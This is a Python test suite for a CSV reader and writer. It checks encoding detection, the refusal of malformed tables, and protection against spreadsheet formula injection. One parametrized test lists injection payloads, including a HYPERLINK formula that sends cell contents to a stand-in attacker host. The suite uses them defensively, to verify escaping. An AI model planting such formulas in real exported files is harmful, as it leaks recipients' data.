"""A table is read however a spreadsheet saved it, and nothing that we write is run by one."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as some

from makeright.customers.reading_tables import FORMULA, read_table, safe, written
from makeright.customers.refusals import Refused

ROSA = [["Rosa Lindqvist", "rosa@example.com"]]


def rows(content: bytes) -> list[list[str] | None]:
    return [cells for _, cells in read_table(content).rows()]


@pytest.mark.parametrize(
    ("content", "encoding", "separator"),
    [
        ("name,mail\nZoë,z@example.com\n".encode(), "utf-8", ","),
        ("\ufeffname;mail\r\nZoë;z@example.com\r\n".encode(), "utf-8", ";"),
        ("name\tmail\rZoë\tz@example.com\r".encode("cp1252"), "cp1252", "\t"),
        ("name|mail\nZoë|z@example.com".encode("utf-16"), "utf-16", "|"),
        ('\n\n"name";"mail, or so"\nZoë;z@example.com'.encode(), "utf-8", ";"),
        ('"name, as said";mail\nZoë;z@example.com'.encode(), "utf-8", ";"),
    ],
)
def test_encoding_and_separator_are_found(content: bytes, encoding: str, separator: str) -> None:
    table = read_table(content)
    assert (table.encoding, table.separator) == (encoding, separator)
    assert [cells for _, cells in table.rows()] == [["Zoë", "z@example.com"]]


def test_lines_are_those_of_the_file() -> None:
    table = read_table(b'name,mail\n"two\nlines",a@example.com\n\n , \nb,b@example.com\n')
    assert list(table.rows()) == [(3, ["two\nlines", "a@example.com"]), (6, ["b", "b@example.com"])]


def test_a_row_that_can_not_be_read_is_said_and_the_next_one_is() -> None:
    found = rows(b'name,mail\n"Ro"sa,rosa@example.com\nKarim,karim@example.com\n')
    assert None in found
    assert found[-1] == ["Karim", "karim@example.com"]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "no_columns"),
        (b"\n\n", "no_columns"),
        (b"name,Name\n", "doubled"),
        (b"PK\x03\x04\x00\x00name", "no_text"),
        (b"\xff\xfea", "no_text"),
        (",".join(map(str, range(201))).encode(), "no_columns"),
    ],
)
def test_what_is_no_table_is_refused_in_words(content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        read_table(content)
    assert refused.value.code == code


def test_an_encoding_that_is_none_is_refused() -> None:
    with pytest.raises(Refused, match="can’t be read as"):
        read_table(b"name\n", encoding="no-such-thing")


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/"&A1)',
        "+33170189900",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u200b=1",
        "＝1+1",
        "＠SUM(A1)",
        "'=1",
        "''=1",
    ],
)
def test_no_cell_is_run(cell: str) -> None:
    assert safe(cell).startswith("'")
    (line,) = csv.reader(io.StringIO(written([cell, "x"]), newline=""))
    assert line[0] == f"'{cell}"


def test_what_harms_nobody_stays_as_it_is() -> None:
    assert [safe(cell) for cell in ("Rosa", "'s-Hertogenbosch", "a=b", "1-2", "")] == [
        "Rosa", "'s-Hertogenbosch", "a=b", "1-2", "",
    ]  # fmt: skip


@given(some.lists(some.text(max_size=20), min_size=2, max_size=4))
def test_whatever_is_written_runs_nothing(cells: list[str]) -> None:
    (line,) = csv.reader(io.StringIO(written(cells), newline=""))
    assert [cell for cell in line if cell.startswith(FORMULA)] == []


@given(some.lists(some.text("abc=+-@'1 ", max_size=6).map(str.strip), min_size=2, max_size=3))
def test_whatever_is_written_is_read_as_it_was(cells: list[str]) -> None:
    head = ",".join(f"c{number}" for number in range(len(cells)))
    found = rows(f"{head}\r\n{written(cells)}".encode())
    assert found == ([cells] if any(cells) else [])
